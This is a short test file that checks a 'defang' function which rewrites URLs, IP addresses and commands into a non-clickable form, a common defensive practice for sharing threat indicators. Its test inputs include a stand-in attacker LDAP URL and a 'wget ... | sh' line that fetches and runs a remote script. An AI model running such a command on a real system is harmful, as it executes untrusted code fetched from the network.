import { expect, test } from 'vitest'
import { defanged } from './defang.ts'

test.each([
  ['http://evil.example/a.sh', 'hxxp://evil[.]example/a[.]sh'],
  ['HTTPS://203.0.113.7:80', 'HxxPS://203[.]0[.]113[.]7:80'],
  ['ldap://evil.example:1389/a', 'ldap[:]//evil[.]example:1389/a'],
  ['wget -O- evil.example | sh', 'wget -O- evil[.]example | sh'],
  ['done. Then', 'done. Then'],
])('%j is told as %j', (text, expected) => {
  expect(defanged(text)).toBe(expected)
})
